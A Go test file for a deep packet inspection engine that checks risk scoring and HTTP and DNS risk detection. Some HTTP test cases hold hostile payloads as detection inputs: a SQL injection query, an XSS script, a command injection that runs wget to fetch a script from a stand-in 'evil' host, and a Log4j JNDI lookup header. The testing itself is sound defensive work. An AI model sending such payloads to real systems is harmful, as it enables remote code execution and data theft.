package dpi

import (
	"net/netip"
	"testing"
)

// riskNames lists the names of a risk set, for messages.
func riskNames(r Risks) []string {
	var out []string
	r.Each(func(ri *RiskInfo) { out = append(out, ri.Name) })
	return out
}

func TestRiskScores(t *testing.T) {
	// Scores as ndpiReader prints them for these combinations.
	tests := []struct {
		risks []RiskID
		total int
	}{
		{[]RiskID{RiskUnidirectionalTraffic}, 10},
		{[]RiskID{RiskKnownProtoNonStdPort}, 50},
		{[]RiskID{RiskTLSObsoleteVersion, RiskTLSWeakCipher}, 200},
		{[]RiskID{RiskNumericIPHost, RiskBinaryDataTransfer}, 60},
		{[]RiskID{RiskKnownProtoNonStdPort, RiskTLSMissingSNI, RiskTLSALPNSNIMismatch}, 150},
		{[]RiskID{RiskDNSLargePacket, RiskDNSFragmented}, 100},
		{[]RiskID{RiskSuspiciousDGADomain, RiskRiskyDomain}, 150},
	}
	for _, tt := range tests {
		var r Risks
		for _, id := range tt.risks {
			r.Set(id)
		}
		total, cli, srv := r.Score()
		if total != tt.total || cli+srv != total {
			t.Errorf("%v: score %d (%d+%d), want %d", riskNames(r), total, cli, srv, tt.total)
		}
	}
	var r Risks
	r.Set(RiskURLPossibleSQLInjection) // severe, charged mostly to the client
	if total, cli, srv := r.Score(); total != 150 || cli != 135 || srv != 15 {
		t.Errorf("SQL injection score %d %d %d", total, cli, srv)
	}
	r.Set(RiskNone)
	r.Set(RiskID(200)) // out of range: ignored
	if r != 1<<RiskURLPossibleSQLInjection {
		t.Errorf("Set accepted invalid ids: %b", r)
	}
	for i := range riskTable {
		if riskTable[i].ID != RiskID(i) {
			t.Fatalf("riskTable[%d] holds id %d", i, riskTable[i].ID)
		}
	}
}

// httpExchange runs a request and its response through a fresh engine.
func httpExchange(t *testing.T, req, rsp string) (*Registry, *State) {
	t.Helper()
	r := NewRegistry()
	e := NewEngine(r, nil)
	st := new(State)
	e.Inspect(st, httpPacket([]byte(req), ClientToServer))
	if rsp != "" {
		e.Inspect(st, httpPacket([]byte(rsp), ServerToClient))
	}
	return r, st
}

func TestHTTPRisks(t *testing.T) {
	const ok = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nServer: nginx/1.24.0\r\n\r\n"
	const ua = "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"
	tests := []struct {
		name     string
		req, rsp string
		want     []RiskID
	}{
		{"clean", "GET / HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n", ok, nil},
		{"numeric host and binary download",
			"GET /range/0-65535?o=AQE HTTP/1.1\r\nHost: 23.246.11.133\r\nUser-Agent: netflix-ios-app\r\n\r\n",
			"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nServer: nginx\r\n\r\n",
			[]RiskID{RiskNumericIPHost, RiskBinaryDataTransfer}},
		{"executable body", "GET /solar.php HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n",
			"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90\x00\x03",
			[]RiskID{RiskBinaryAppTransfer, RiskBinaryDataTransfer}},
		{"missing user agent", "GET /alert HTTP/1.1\r\nHost: example.org\r\n\r\n", ok,
			[]RiskID{RiskHTTPSuspiciousUserAgent}},
		{"random user agent", "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: pwtyyEKzNtGatwnJjmCcBLbOveCVpc\r\n\r\n", ok,
			[]RiskID{RiskHTTPSuspiciousUserAgent}},
		{"crawler", "GET / HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (compatible; bingbot/2.0)\r\n\r\n", ok,
			[]RiskID{RiskHTTPCrawlerBot}},
		{"sql injection", "GET /sqli/?id=%3Fid%3Da%27+UNION+SELECT+%22text1%22%2C%22text2%22%3B--+- HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n", ok,
			[]RiskID{RiskURLPossibleSQLInjection}},
		{"xss", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n", ok,
			[]RiskID{RiskURLPossibleXSS}},
		{"command injection", "GET /cgi-bin/x?cmd=;wget%20http://evil/x.sh HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n", ok,
			[]RiskID{RiskURLPossibleRCEInjection}},
		{"log4j header", "GET / HTTP/1.1\r\nHost: example.org\r\n" + ua + "X-Api: ${jndi:ldap://x/a}\r\n\r\n", ok,
			[]RiskID{RiskHTTPSuspiciousHeader}},
		{"obsolete apache and error", "GET / HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n",
			"HTTP/1.1 404 Not Found\r\nServer: Apache/2.2.16 (Debian)\r\n\r\n",
			[]RiskID{RiskHTTPObsoleteServer, RiskErrorCode}},
		{"current apache", "GET / HTTP/1.1\r\nHost: example.org\r\n" + ua + "\r\n",
			"HTTP/1.1 200 OK\r\nServer: Apache/2.4.41 (Ubuntu)\r\n\r\n", nil},
		{"generated name", "GET / HTTP/1.1\r\nHost: www.q4cyamnc6mtokjurvdclt.com\r\n" + ua + "\r\n", ok,
			[]RiskID{RiskSuspiciousDGADomain}},
	}
	for _, tt := range tests {
		_, st := httpExchange(t, tt.req, tt.rsp)
		var want Risks
		for _, id := range tt.want {
			want.Set(id)
		}
		if st.Risks != want {
			t.Errorf("%s: risks %v, want %v", tt.name, riskNames(st.Risks), riskNames(want))
		}
	}
}

func TestHTTPMetadataAndSubProtocols(t *testing.T) {
	r, st := httpExchange(t, "GET /v9/x.cab HTTP/1.1\r\nHost: 10.1.1.1\r\nUser-Agent: Windows-Update-Agent/10.0\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Type: application/vnd.ms-cab-compressed\r\nServer: Microsoft-IIS/10.0\r\n\r\n")
	if got := r.Name(st.Result); got != "HTTP.WindowsUpdate" {
		t.Errorf("windows update agent: %q", got)
	}
	if st.Info == nil || st.Info.HTTP.URL != "/v9/x.cab" || st.Info.HTTP.ContentType != "application/vnd.ms-cab-compressed" ||
		st.Info.HTTP.Server != "Microsoft-IIS/10.0" || st.HTTPStatus != 200 || !st.Done {
		t.Errorf("metadata: %+v %+v", st.Info, st)
	}
	for _, tt := range []struct{ req, want string }{
		{"POST /ipp/ HTTP/1.1\r\nHost: 10.10.10.251\r\nUser-Agent: CUPS/1.3.4\r\nContent-Type: application/ipp\r\n\r\n", "HTTP.IPP"},
		{"GET /announce?info_hash=%aa7i&peer_id=-TR2940- HTTP/1.1\r\nHost: tracker.example.net\r\nUser-Agent: Transmission/2.94\r\n\r\n", "HTTP.BitTorrent"},
		{"GET /live/V2400/206598098.m4s HTTP/1.1\r\nHost: livesim.example.org\r\nUser-Agent: VLC/3.0.16\r\n\r\n", "HTTP.MpegDash"},
		{"GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8.0\r\n\r\n", "HTTP"},
	} {
		r, st := httpExchange(t, tt.req, "")
		if got := r.Name(st.Result); got != tt.want {
			t.Errorf("%q: %q, want %q", tt.req, got, tt.want)
		}
	}
	// A service named by the host wins over the request's hints.
	r, st = httpExchange(t, "GET /x.mp4 HTTP/1.1\r\nHost: www.facebook.com\r\nUser-Agent: curl/8.0\r\n\r\n", "")
	if got := r.Name(st.Result); got != "HTTP.Facebook" {
		t.Errorf("host vs hints: %q", got)
	}
}

func TestPercentDecodeLower(t *testing.T) {
	var buf [16]byte
	if got := string(percentDecodeLower([]byte("A%27+B%zz%4"), buf[:0])); got != "a' b%zz%4" {
		t.Errorf("decode: %q", got)
	}
	if got := percentDecodeLower([]byte("0123456789abcdefXYZ"), buf[:0]); len(got) != 16 {
		t.Errorf("decode past capacity: %q", got)
	}
}

// dnsMessage builds a DNS message with one question (and, for a
// response, one A answer with the given TTL).
func dnsMsg(name string, response bool, rcode uint8, ttl uint32) []byte {
	flags := uint16(0x0100)
	if response {
		flags = 0x8180 | uint16(rcode)
	}
	an := byte(0)
	if response && rcode == 0 {
		an = 1
	}
	b := []byte{0xab, 0xcd, byte(flags >> 8), byte(flags), 0, 1, 0, an, 0, 0, 0, 0}
	for len(name) > 0 {
		l := len(name)
		for i := 0; i < len(name); i++ {
			if name[i] == '.' {
				l = i
				break
			}
		}
		b = append(b, byte(l))
		b = append(b, name[:l]...)
		if l == len(name) {
			name = ""
		} else {
			name = name[l+1:]
		}
	}
	b = append(b, 0, 0, 1, 0, 1) // root, type A, class IN
	if an == 1 {
		b = append(b, 0xc0, 12, 0, 1, 0, 1, // name pointer, type A, class IN
			byte(ttl>>24), byte(ttl>>16), byte(ttl>>8), byte(ttl), // TTL
			0, 4, 93, 184, 216, 34) // rdlength 4, address
	}
	return b
}

func TestDNSRisks(t *testing.T) {
	tests := []struct {
		name string
		msgs [][]byte
		want []RiskID
	}{
		{"clean", [][]byte{dnsMsg("www.example.com", false, 0, 0), dnsMsg("www.example.com", true, 0, 300)}, nil},
		{"nxdomain", [][]byte{dnsMsg("nope.example.com", false, 0, 0), dnsMsg("nope.example.com", true, 3, 0)},
			[]RiskID{RiskErrorCode}},
		{"invalid chars", [][]byte{dnsMsg("bad\x01name.example.com", false, 0, 0)}, []RiskID{RiskInvalidCharacters}},
		{"punycode", [][]byte{dnsMsg("www.xn--mnich-kva.com", false, 0, 0)}, []RiskID{RiskPunycodeIDN}},
		{"zero ttl", [][]byte{dnsMsg("www.example.com", true, 0, 0)}, []RiskID{RiskMinorIssues}},
		{"generated name answered", [][]byte{dnsMsg("www.e6r5p57kbafwrxj3plz.com", true, 0, 60)},
			[]RiskID{RiskSuspiciousDGADomain}},
		{"large", [][]byte{append(dnsMsg("www.example.com", true, 0, 60), make([]byte, 520)...)},
			[]RiskID{RiskDNSLargePacket}},
		{"long name", [][]byte{dnsMsg("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb.example.com", false, 0, 0)},
			[]RiskID{RiskDNSSuspiciousTraffic}},
	}
	for _, tt := range tests {
		e := NewEngine(NewRegistry(), nil)
		st := new(State)
		for i, m := range tt.msgs {
			dir := ClientToServer
			if m[2]&0x80 != 0 {
				dir = ServerToClient
			}
			_ = i
			e.Inspect(st, dnsPacket(m, dir))
		}
		var want Risks
		for _, id := range tt.want {
			want.Set(id)
		}
		if st.Risks != want {
			t.Errorf("%s: risks %v, want %v", tt.name, riskNames(st.Risks), riskNames(want))
		}
	}
}

func TestLooksGenerated(t *testing.T) {
	for name, want := range map[string]bool{
		"www.q4cyamnc6mtokjurvdclt.com": true, "www.gfu7hbxpfp.com": true, "e6r5p57kbafwrxj3plz.com": true,
		"www.google.com": false, "googlesyndication.com": false, "r3---sn-a5mekn7s.googlevideo.com": false,
		"scontent-mxp1-1.xx.fbcdn.net": false, "clients4.google.com": false, "com": false, "": false,
		"download.windowsupdate.com": false, "streaming.spotify.com": false,
	} {
		if got := looksGenerated([]byte(name)); got != want {
			t.Errorf("looksGenerated(%q) = %v", name, got)
		}
	}
}

// dnsLearner is a Learner that also answers ResolvedName.
type dnsLearner struct{ names map[netip.Addr]string }

func (l dnsLearner) LearnName(netip.Addr, string, NameSource) {}
func (l dnsLearner) ResolvedName(a netip.Addr) (string, bool) {
	n, ok := l.names[a]
	return n, ok
}

func TestDNSLearnedLabel(t *testing.T) {
	srv := netip.MustParseAddr("203.0.113.7")
	r := NewRegistry()
	e := NewEngine(r, dnsLearner{map[netip.Addr]string{srv: "edge.whatsapp.net"}})
	st := new(State)
	// An opaque TCP payload to a port no protocol uses.
	e.Inspect(st, &Packet{L4Proto: 6, Src: client, Dst: srv, SrcPort: 50000, DstPort: 5222 + 10000,
		Payload: []byte{0x9c, 0x21, 0x00, 0x00, 0x7f, 0x31, 0xe4}})
	e.Finalize(st, 6, 50000, 15222)
	if got := r.Name(st.Result); got != "WhatsApp" || st.Result.Confidence != ConfidenceDNS {
		t.Errorf("label %q confidence %d, want WhatsApp by DNS", got, st.Result.Confidence)
	}
}
